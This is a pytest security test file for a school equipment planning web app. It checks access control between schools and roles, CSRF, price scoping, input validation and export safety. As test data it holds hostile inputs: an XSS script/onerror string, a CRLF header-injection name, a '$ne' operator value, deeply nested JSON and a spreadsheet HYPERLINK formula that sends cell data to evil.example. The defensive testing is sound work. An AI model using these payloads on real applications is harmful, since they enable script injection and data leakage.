"""The planner's security: a school's plans are read and changed only by those who may
(another school's plan is not found, district officers and reviewers only read), unit
prices are set only in the caller's own scope and within range, hostile CHANGE lists
answer 400 naming the problem (never a 500, never another school's records), names are
shown as text everywhere, and every form that changes data needs its CSRF token."""

from __future__ import annotations

import re

import pytest
from sqlalchemy import select

from app.extensions import db
from app.planner.models import Plan, UnitPrice
from tests.builders import bearer

CHANGES = [{"kind": "repair_equipment", "count": 1}, {"kind": "equip_classrooms", "count": 1}]
HOSTILE = '<script>alert(1)</script><img src=x onerror=alert(2)>'


@pytest.fixture()
def schools(build):
    """Two schools of two districts, each with a room, a broken TV and its software in use."""
    found = {}
    for key, district in (("own", "Đắk Song"), ("other", "Cư Jút")):
        school = build.school(district=district, largest_class_size=30)
        room = build.records("rooms", school, [{"name": f"1A {key}", "kind": "classroom", "internet": True}])[0]
        build.records("equipment", school, [{"kind": "tv", "name": f"TV {key}", "room_id": room.id,
                                             "status": "broken"}])
        software = build.record("software", school, {"name": f"Phần mềm bí mật {key}", "category": "teaching",
                                                     "acquisition": "rented", "status": "in_use",
                                                     "capabilities": ["online_teaching"]})
        found[key] = (school, software)
    return found


def _plan(app, build, school, name="Kế hoạch", changes=CHANGES) -> dict:
    token = build.token(build.user("principal", school=school))
    answer = app.test_client().post(f"/api/v1/schools/{school.id}/planner/plans", headers=bearer(token),
                                    json={"name": name, "changes": changes})
    assert answer.status_code == 201, answer.json
    return answer.json


def _signed_in(build, make_client, role, school=None, district=None):
    person = build.user(role, school=school, district=district)
    client = make_client()
    client.login(person.email)
    return client


def _plan_row(read, plan_id):
    def load():
        plan = db.session.get(Plan, plan_id)
        return None if plan is None else (plan.name, plan.changes)
    return read(load)


# --- another school's plan -----------------------------------------------------------

def test_another_schools_plan_under_this_schools_url_is_not_found_on_every_route(
        app, build, make_client, read, schools):
    own, other = schools["own"][0], schools["other"][0]
    theirs = _plan(app, build, other, "Của trường khác")
    principal = _signed_in(build, make_client, "principal", school=own)
    base = f"/schools/{own.id}/planner"
    for url in (f"{base}/plans/{theirs['id']}", f"{base}/plans/{theirs['id']}/export.xlsx"):
        assert principal.get(url).status_code == 404, url
    assert principal.post(f"{base}/plans/{theirs['id']}/delete").status_code == 404
    # Named in the form rather than the URL: still not found, and left as it was.
    assert principal.post(f"{base}/plans", {"name": "Chiếm", "plan_id": str(theirs["id"]),
                                            "repair_equipment": "1"}).status_code == 404
    mine = _plan(app, build, own, "Của mình")
    assert principal.get(f"{base}/compare?plan={mine['id']}&plan={theirs['id']}").status_code == 404
    editing = principal.get(f"{base}?plan={theirs['id']}").get_data(as_text=True)
    assert "Của trường khác" not in editing
    assert _plan_row(read, theirs["id"]) == ("Của trường khác", theirs["changes"])


def test_another_schools_plan_through_the_api_is_not_found(app, build, read, schools):
    own, other = schools["own"][0], schools["other"][0]
    theirs = _plan(app, build, other, "Của trường khác")
    token = build.token(build.user("principal", school=own))
    client = app.test_client()
    for base in (f"/api/v1/schools/{own.id}/planner/plans/{theirs['id']}",
                 f"/api/v1/schools/{other.id}/planner/plans/{theirs['id']}"):
        assert client.get(base, headers=bearer(token)).status_code == 404
        assert client.put(base, headers=bearer(token), json={"name": "X", "changes": CHANGES}).status_code == 404
        assert client.delete(base, headers=bearer(token)).status_code == 404
    assert _plan_row(read, theirs["id"]) == ("Của trường khác", theirs["changes"])


def test_a_plan_cannot_be_moved_to_another_school_through_the_body(app, build, read, schools):
    own = schools["own"][0]
    mine = _plan(app, build, own)
    token = build.token(build.user("principal", school=own))
    answer = app.test_client().put(f"/api/v1/schools/{own.id}/planner/plans/{mine['id']}", headers=bearer(token),
                                   json={"name": "X", "changes": CHANGES, "school_id": schools["other"][0].id})
    assert answer.status_code == 400
    assert read(lambda: db.session.get(Plan, mine["id"]).school_id) == own.id


def test_district_officers_read_their_districts_plans_and_change_none(app, build, make_client, read, schools):
    own, other = schools["own"][0], schools["other"][0]
    mine = _plan(app, build, own)
    theirs = _plan(app, build, other)
    officer = build.user("district", district=own.district)
    token = build.token(officer)
    client = app.test_client()
    url = f"/api/v1/schools/{own.id}/planner/plans"
    assert client.get(f"{url}/{mine['id']}", headers=bearer(token)).status_code == 200
    assert client.post(url, headers=bearer(token), json={"name": "X", "changes": CHANGES}).status_code == 403
    assert client.put(f"{url}/{mine['id']}", headers=bearer(token),
                      json={"name": "X", "changes": CHANGES}).status_code == 403
    assert client.delete(f"{url}/{mine['id']}", headers=bearer(token)).status_code == 403
    assert client.get(f"/api/v1/schools/{other.id}/planner/plans/{theirs['id']}",
                      headers=bearer(token)).status_code == 404
    assert client.post(f"/api/v1/schools/{other.id}/planner/whatif", headers=bearer(token),
                       json={"changes": CHANGES}).status_code == 404
    page = make_client()
    page.login(officer.email)
    assert page.post(f"/schools/{own.id}/planner/plans/{mine['id']}/delete").status_code == 403
    assert page.post(f"/schools/{own.id}/planner/plans", {"name": "X", "plan_id": str(mine["id"]),
                                                          "repair_equipment": "1"}).status_code == 403
    assert _plan_row(read, mine["id"]) == (mine["name"], mine["changes"])


def test_reviewers_cannot_save_change_or_delete_plans(app, build, make_client, read, schools):
    own = schools["own"][0]
    mine = _plan(app, build, own)
    token = build.token(build.user("reviewer", school=own))
    client = app.test_client()
    url = f"/api/v1/schools/{own.id}/planner/plans/{mine['id']}"
    assert client.put(url, headers=bearer(token), json={"name": "X", "changes": CHANGES}).status_code == 403
    assert client.delete(url, headers=bearer(token)).status_code == 403
    page = _signed_in(build, make_client, "reviewer", school=own)
    assert page.post(f"/schools/{own.id}/planner/plans/{mine['id']}/delete").status_code == 403
    assert _plan_row(read, mine["id"]) == (mine["name"], mine["changes"])


# --- CSRF -----------------------------------------------------------------------------

def test_every_planner_form_that_changes_data_needs_its_csrf_token(app, build, make_client, read, schools):
    own = schools["own"][0]
    mine = _plan(app, build, own)
    principal = _signed_in(build, make_client, "principal", school=own)
    base = f"/schools/{own.id}/planner/plans"
    assert principal.post(base, {"name": "Mới", "repair_equipment": "1"}, csrf=False).status_code == 400
    assert principal.post(base, {"name": "Đổi", "plan_id": str(mine["id"]), "repair_equipment": "1"},
                          csrf=False).status_code == 400
    assert principal.post(f"{base}/{mine['id']}/delete", csrf=False).status_code == 400
    assert read(lambda: db.session.scalars(select(Plan.name).where(Plan.school_id == own.id)).all()) == [mine["name"]]
    admin = _signed_in(build, make_client, "admin")
    assert admin.post("/unit-prices", {"reset": "projector"}, csrf=False).status_code == 400
    assert admin.post("/unit-prices", {"projector": "1"}, csrf=False).status_code == 400
    assert read(lambda: db.session.scalars(select(UnitPrice)).all()) == []


# --- unit prices ----------------------------------------------------------------------

def _prices(read, district_id=None):
    return read(lambda: dict(db.session.execute(
        select(UnitPrice.key, UnitPrice.amount_vnd).where(
            UnitPrice.district_id.is_(None) if district_id is None else UnitPrice.district_id == district_id)).all()))


def test_a_district_officer_sets_only_their_districts_prices(app, build, read, schools):
    own, other = schools["own"][0], schools["other"][0]
    token = build.token(build.user("district", district=own.district))
    client = app.test_client()
    # The district named in the body (or the query) is no way to another scope.
    assert client.put("/api/v1/unit-prices", headers=bearer(token),
                      json={"prices": {"projector": 1}, "district_id": other.district_id}).status_code == 400
    assert client.put("/api/v1/unit-prices", headers=bearer(token),
                      json={"prices": {"projector": 1}, "district_id": None}).status_code == 400
    answer = client.put(f"/api/v1/unit-prices?district_id={other.district_id}", headers=bearer(token),
                        json={"prices": {"projector": 2}})
    assert answer.status_code == 200 and answer.json["district_id"] == own.district_id
    assert _prices(read, own.district_id) == {"projector": 2}
    assert _prices(read, other.district_id) == {} and _prices(read) == {}


def test_a_district_officer_reads_no_other_districts_prices(app, build, schools):
    own, other = schools["own"][0], schools["other"][0]
    client = app.test_client()
    officer = build.token(build.user("district", district=own.district))
    assert client.get(f"/api/v1/unit-prices?district_id={other.district_id}",
                      headers=bearer(officer)).status_code == 404
    staff = build.token(build.user("staff", school=own))
    answer = client.get(f"/api/v1/unit-prices?district_id={other.district_id}", headers=bearer(staff))
    assert answer.status_code == 200 and answer.json["district_id"] == own.district_id


def test_school_people_set_no_prices(app, build, make_client, read, schools):
    own = schools["own"][0]
    for role in ("staff", "reviewer", "principal"):
        token = build.token(build.user(role, school=own))
        assert app.test_client().put("/api/v1/unit-prices", headers=bearer(token),
                                     json={"prices": {"projector": 1}}).status_code == 403
    page = _signed_in(build, make_client, "principal", school=own)
    assert page.post("/unit-prices", {"projector": "1"}).status_code == 403
    assert read(lambda: db.session.scalars(select(UnitPrice)).all()) == []


@pytest.mark.parametrize("amount", [-1, 10**13, 10**400, 1.5, 1e9, "1e9", "１２３", "-5", "1.5", " ", "",
                                    True, False, [1], {"a": 1}, "0x10", "1_000", "١٢٣"])
def test_an_amount_out_of_range_or_not_whole_dong_is_refused(app, build, read, amount):
    token = build.token(build.user("admin"))
    answer = app.test_client().put("/api/v1/unit-prices", headers=bearer(token),
                                   json={"prices": {"projector": amount}})
    assert answer.status_code == 400
    assert "projector" in answer.json["error"]["fields"]
    assert _prices(read) == {}


def test_null_goes_back_to_the_inherited_price_and_bounds_are_kept(app, build, read):
    token = build.token(build.user("admin"))
    client = app.test_client()
    assert client.put("/api/v1/unit-prices", headers=bearer(token),
                      json={"prices": {"projector": 10**12, "repair": "1.500.000"}}).status_code == 200
    assert _prices(read) == {"projector": 10**12, "repair": 1_500_000}
    assert client.put("/api/v1/unit-prices", headers=bearer(token),
                      json={"prices": {"projector": None}}).status_code == 200
    assert _prices(read) == {"repair": 1_500_000}


def test_an_unknown_price_key_is_refused(app, build, read):
    token = build.token(build.user("admin"))
    answer = app.test_client().put("/api/v1/unit-prices", headers=bearer(token),
                                   json={"prices": {"capability:../../x": 1, "__class__": 2}})
    assert answer.status_code == 400
    assert _prices(read) == {}


# --- hostile CHANGE lists -------------------------------------------------------------

def _whatif(app, token, school, changes):
    return app.test_client().post(f"/api/v1/schools/{school.id}/planner/whatif", headers=bearer(token),
                                  json={"changes": changes})


@pytest.mark.parametrize("changes", [
    [{"kind": "equip_classrooms", "count": 10**20}],
    [{"kind": "equip_classrooms", "count": 1001}],
    [{"kind": "equip_classrooms", "count": 0}],
    [{"kind": "equip_classrooms", "count": -1}],
    [{"kind": "equip_classrooms", "count": 1.5}],
    [{"kind": "equip_classrooms", "count": "5"}],
    [{"kind": "equip_classrooms", "count": True}],
    [{"kind": "equip_classrooms", "count": None}],
    [{"kind": "__class__"}],
    [{"kind": None}],
    [{"kind": "build_studio", "extra": 1}],
    [{"kind": "adopt_software", "capabilities": ["x"] * 10_000}],
    [{"kind": "adopt_software", "capabilities": [f"x{n}" for n in range(10_000)]}],
    [{"kind": "adopt_software", "capabilities": [[["lms"]]]}],
    [{"kind": "adopt_software", "capabilities": []}],
    [{"kind": "adopt_software", "capabilities": ["lms"], "software_id": "1"}],
    [{"kind": "adopt_software", "capabilities": ["lms"], "software_id": True}],
    [{"kind": "adopt_software", "capabilities": ["lms"], "name": "x" * 201}],
    [{"kind": "adopt_software", "capabilities": ["lms"], "name": "   "}],
    [{"kind": "train_teachers", "count": 1, "skill": "__init__"}],
    [{"kind": "add_evidence", "criterion": "9.9"}],
    [{"kind": "repair_equipment", "count": 2}],
    [{"kind": "approve_materials", "count": 1}],
    [["kind"]],
    ["equip_classrooms"],
    [None],
    [{"kind": "build_studio"}] * 101,
])
def test_a_hostile_change_list_answers_400(app, build, schools, changes):
    own = schools["own"][0]
    token = build.token(build.user("reviewer", school=own))
    answer = _whatif(app, token, own, changes)
    assert answer.status_code == 400, answer.json


def test_a_change_list_that_is_not_a_list_answers_400(app, build, schools):
    own = schools["own"][0]
    token = build.token(build.user("staff", school=own))
    client = app.test_client()
    for body in ({"changes": {"kind": "build_studio"}}, {"changes": "build_studio"}, {"changes": None}, {},
                 {"changes": [{"kind": "build_studio"}], "school_id": schools["other"][0].id}, [], "x"):
        answer = client.post(f"/api/v1/schools/{own.id}/planner/whatif", headers=bearer(token), json=body)
        assert answer.status_code == 400, body


def test_deeply_nested_json_answers_400(app, build, schools):
    own = schools["own"][0]
    token = build.token(build.user("staff", school=own))
    nested = "[" * 50_000 + "]" * 50_000
    body = '{"changes": [{"kind": "build_studio", "x": ' + nested + '}]}'
    answer = app.test_client().post(f"/api/v1/schools/{own.id}/planner/whatif", data=body,
                                    headers={**bearer(token), "Content-Type": "application/json"})
    assert answer.status_code == 400


def test_another_schools_software_is_neither_changed_nor_named(app, build, schools):
    own = schools["own"][0]
    other_software = schools["other"][1]
    token = build.token(build.user("principal", school=own))
    for route in ("whatif", "plans"):
        answer = app.test_client().post(f"/api/v1/schools/{own.id}/planner/{route}", headers=bearer(token), json={
            "name": "X", "changes": [{"kind": "adopt_software", "capabilities": ["lms"],
                                      "software_id": other_software.id}]} if route == "plans" else {
            "changes": [{"kind": "adopt_software", "capabilities": ["lms"], "software_id": other_software.id}]})
        assert answer.status_code == 400
        assert "bí mật other" not in answer.get_data(as_text=True)


def test_the_actions_name_only_this_schools_records(app, build, make_client, schools):
    own = schools["own"][0]
    software = schools["own"][1]
    token = build.token(build.user("staff", school=own))
    answer = _whatif(app, token, own, [*CHANGES, {"kind": "adopt_software", "capabilities": ["lms"],
                                                  "software_id": software.id}])
    assert answer.status_code == 200
    page = _signed_in(build, make_client, "staff", school=own)
    html = page.get(f"/schools/{own.id}/planner?repair_equipment=1&equip_classrooms=1").get_data(as_text=True)
    assert "TV own" in html and " other" not in html
    assert "bí mật other" not in answer.get_data(as_text=True)


def test_a_form_count_that_is_not_ascii_digits_is_a_field_message(build, make_client, schools):
    own = schools["own"][0]
    page = _signed_in(build, make_client, "staff", school=own)
    for value in ("１", "²", "1e3", "-1", "1001", "99999999999999999999"):
        answer = page.get(f"/schools/{own.id}/planner?equip_classrooms={value}")
        assert answer.status_code == 200
        assert 'data-testid="error-equip_classrooms"' in answer.get_data(as_text=True), value


# --- names shown as text --------------------------------------------------------------

def test_plan_and_software_names_are_shown_as_text(app, build, make_client, schools):
    own = schools["own"][0]
    plan = _plan(app, build, own, HOSTILE, [{"kind": "adopt_software", "capabilities": ["lms"],
                                             "name": HOSTILE}])
    page = _signed_in(build, make_client, "reviewer", school=own)
    for url in (f"/schools/{own.id}/planner/plans/{plan['id']}", f"/schools/{own.id}/planner/plans",
                f"/schools/{own.id}/planner?plan={plan['id']}"):
        html = page.get(url).get_data(as_text=True)
        assert "<script>alert(1)" not in html and "<img src=x" not in html, url
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html, url


def test_a_saved_plans_flash_shows_its_name_as_text(build, make_client, schools):
    own = schools["own"][0]
    page = _signed_in(build, make_client, "principal", school=own)
    saved = page.post(f"/schools/{own.id}/planner/plans", {"name": HOSTILE, "repair_equipment": "1"})
    html = page.get(saved.headers["Location"]).get_data(as_text=True)
    assert "<script>alert(1)" not in html and "&lt;script&gt;" in html


def test_a_room_name_is_shown_as_text_in_the_actions(app, build, make_client):
    school = build.school()
    build.records("rooms", school, [{"name": HOSTILE, "kind": "classroom", "internet": False}])
    page = _signed_in(build, make_client, "staff", school=school)
    html = page.get(f"/schools/{school.id}/planner?equip_classrooms=1").get_data(as_text=True)
    assert "<img src=x" not in html and "&lt;img src=x" in html


# --- plan names -----------------------------------------------------------------------

@pytest.mark.parametrize("name", ["", "   ", "x" * 201, "x" * 10_000, None, 5, ["a"]])
def test_a_plan_name_empty_or_too_long_is_refused(app, build, read, schools, name):
    own = schools["own"][0]
    token = build.token(build.user("staff", school=own))
    answer = app.test_client().post(f"/api/v1/schools/{own.id}/planner/plans", headers=bearer(token),
                                    json={"name": name, "changes": CHANGES})
    assert answer.status_code == 400
    assert read(lambda: db.session.scalars(select(Plan)).all()) == []


# --- the export -----------------------------------------------------------------------

def test_the_exports_file_name_carries_no_part_of_the_plan_name(app, build, make_client, schools):
    own = schools["own"][0]
    plan = _plan(app, build, own, 'a"b\\c/d;e\r\nX-Injected: 1')
    page = _signed_in(build, make_client, "staff", school=own)
    answer = page.get(f"/schools/{own.id}/planner/plans/{plan['id']}/export.xlsx")
    assert answer.status_code == 200
    assert "X-Injected" not in answer.headers
    assert answer.headers["Content-Disposition"] == f"attachment; filename*=UTF-8''ke-hoach-{plan['id']}.xlsx"



# --- found by the review, fixed ----------------------------------------------------------

@pytest.mark.parametrize("changes", [
    [{"kind": ["equip_classrooms"]}], [{"kind": {"a": 1}}],
    [{"kind": "add_evidence", "criterion": {"$ne": 1}}], [{"kind": "add_evidence", "criterion": ["1.1"]}],
    [{"kind": "train_teachers", "count": 1, "skill": ["training_account"]}],
])
def test_a_list_or_object_where_a_word_belongs_is_refused_naming_it(app, build, schools, changes):
    own = schools["own"][0]
    token = build.token(build.user("reviewer", school=own))
    answer = app.test_client().post(f"/api/v1/schools/{own.id}/planner/whatif", headers=bearer(token),
                                    json={"changes": changes})
    assert answer.status_code == 400 and answer.json["error"]["fields"]


def test_one_change_list_creates_or_updates_at_most_a_thousand_records(app, build, schools):
    own = schools["own"][0]
    token = build.token(build.user("reviewer", school=own))
    http = app.test_client()
    too_many = http.post(f"/api/v1/schools/{own.id}/planner/whatif", headers=bearer(token),
                         json={"changes": [{"kind": "equip_classrooms", "count": 600},
                                           {"kind": "add_lab_computers", "count": 401}]})
    assert too_many.status_code == 400 and "changes" in too_many.json["error"]["fields"]
    enough = http.post(f"/api/v1/schools/{own.id}/planner/whatif", headers=bearer(token),
                       json={"changes": [{"kind": "equip_classrooms", "count": 600},
                                         {"kind": "add_lab_computers", "count": 400}]})
    assert enough.status_code == 200
    names = [action["values"]["name"] for action in enough.json["actions"]
             if action["collection"] == "rooms" and action["op"] == "create"]
    assert len(names) == len(set(names))  # each new room under a name of its own


def test_odd_plan_and_district_ids_are_never_a_server_error(app, build, make_client, schools):
    own = schools["own"][0]
    mine = _plan(app, build, own)
    page = _signed_in(build, make_client, "principal", school=own)
    for odd in ("²", "٣", "9" * 30, "-1", "1e3"):
        assert page.get(f"/schools/{own.id}/planner?plan={odd}").status_code == 200, odd
        assert page.get(f"/schools/{own.id}/planner/compare?plan={mine['id']}&plan={odd}").status_code == 302, odd
        saved = page.post(f"/schools/{own.id}/planner/plans", {"name": "X", "plan_id": odd, "repair_equipment": "1"})
        assert saved.status_code == 302, odd
    admin = build.token(build.user("admin"))
    answer = app.test_client().get(f"/api/v1/unit-prices?district_id={'9' * 30}", headers=bearer(admin))
    assert answer.status_code in (400, 422)


@pytest.mark.parametrize("name", ["\u200b\u200b", "\u200b\u2060\ufeff", "a\x00b", "\x07\x1b[31m", " \u00a0 "])
def test_a_plan_name_that_shows_nothing_is_refused(app, build, schools, name):
    own = schools["own"][0]
    token = build.token(build.user("staff", school=own))
    answer = app.test_client().post(f"/api/v1/schools/{own.id}/planner/plans", headers=bearer(token),
                                    json={"name": name, "changes": CHANGES})
    assert answer.status_code == 400, answer.json


def test_two_editors_of_one_plan_never_lose_a_change(app, build, make_client, read, schools):
    own = schools["own"][0]
    mine = _plan(app, build, own, "Ban đầu")
    first = _signed_in(build, make_client, "principal", school=own)
    second = _signed_in(build, make_client, "staff", school=own)
    base = f"/schools/{own.id}/planner"

    def opened(client) -> str:  # the version the page's save form carries
        page = client.get(f"{base}?plan={mine['id']}&repair_equipment=1").get_data(as_text=True)
        return re.search(r'name="version" value="(\d+)"', page).group(1)
    seen_first, seen_second = opened(first), opened(second)
    assert second.post(f"{base}/plans", {"name": "Của người thứ hai", "plan_id": str(mine["id"]),
                                         "version": seen_second, "repair_equipment": "1"}).status_code == 302
    answer = first.post(f"{base}/plans", {"name": "Của người thứ nhất", "plan_id": str(mine["id"]),
                                          "version": seen_first, "repair_equipment": "1"})
    assert answer.status_code == 302 and f"plan={mine['id']}" in answer.headers["Location"]
    assert _plan_row(read, mine["id"])[0] == "Của người thứ hai"  # kept; the first is told, not silently lost
    told = first.get(answer.headers["Location"]).get_data(as_text=True)
    assert "after you opened it" in told or "sau khi bạn mở" in told
    # Through the API: a stale version (body or If-Match) answers 409 and changes nothing.
    token = build.token(build.user("principal", school=own))
    stale = app.test_client().put(f"/api/v1/schools/{own.id}/planner/plans/{mine['id']}", headers=bearer(token),
                                  json={"name": "API", "changes": CHANGES, "version": 1})
    assert stale.status_code == 409 and stale.json["error"]["code"] == "stale_version"
    current = app.test_client().get(f"/api/v1/schools/{own.id}/planner/plans/{mine['id']}",
                                    headers=bearer(token)).json["version"]
    fresh = app.test_client().put(f"/api/v1/schools/{own.id}/planner/plans/{mine['id']}",
                                  headers={**bearer(token), "If-Match": f'"{current}"'},
                                  json={"name": "API", "changes": CHANGES})
    assert fresh.status_code == 200 and fresh.json["version"] == current + 1


def test_a_plan_named_like_a_formula_exports_as_text(app, build, make_client, schools):
    import io

    from openpyxl import load_workbook

    own = schools["own"][0]
    mine = _plan(app, build, own, '=HYPERLINK("http://evil.example/?"&A2,"Mở")')
    page = _signed_in(build, make_client, "principal", school=own)
    book = load_workbook(io.BytesIO(page.get(f"/schools/{own.id}/planner/plans/{mine['id']}/export.xlsx").data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert cells and not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert book.worksheets[0]["A1"].value.startswith("=HYPERLINK")  # shown as typed, as text
